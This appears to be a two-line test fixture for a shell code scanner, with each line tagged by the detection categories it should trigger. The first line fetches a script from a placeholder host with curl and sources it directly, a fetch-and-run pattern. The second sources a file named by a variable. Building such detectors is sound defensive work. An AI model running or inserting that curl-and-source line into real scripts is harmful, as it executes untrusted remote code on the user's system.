source <(curl -s https://env.example.com/x)  # FIND: shell.dynamic-code shell.network
. "$CONFIG"  # FIND: shell.dynamic-code
